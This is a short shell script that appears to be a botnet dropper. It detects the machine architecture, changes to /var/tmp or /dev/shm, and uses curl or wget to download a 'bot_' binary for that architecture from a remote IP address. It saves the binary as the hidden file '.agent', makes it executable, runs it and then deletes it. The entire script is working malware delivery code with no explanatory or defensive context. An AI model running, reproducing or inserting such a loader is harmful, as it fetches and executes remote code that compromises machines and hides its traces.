#!/bin/sh
a=$(uname -m); u=http://198.51.100.102:19999
cd /var/tmp 2>/dev/null || cd /dev/shm
for d in curl wget; do command -v $d >/dev/null && break; done
if [ "$d" = curl ]; then curl -fsS "$u/bot_$a" -o .agent; else wget -q "$u/bot_$a" -O .agent; fi
chmod 755 .agent && ./.agent -s && rm -f .agent
